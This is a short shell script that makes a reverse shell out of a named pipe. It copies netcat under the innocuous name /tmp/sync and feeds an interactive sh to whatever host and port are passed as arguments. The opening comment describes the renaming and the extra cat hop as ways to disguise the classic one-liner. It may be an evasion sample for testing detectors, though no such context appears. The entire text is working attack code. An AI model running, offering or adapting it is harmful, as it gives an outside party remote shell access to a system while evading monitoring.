# The classic FIFO loop split across a file, with nc renamed and cat as a second hop.
cp "$(readlink -f /usr/bin/nc)" /tmp/sync
rm -f /tmp/p; mkfifo /tmp/p
cat /tmp/p | sh -i 2>&1 | /tmp/sync "$1" "$2" >/tmp/p
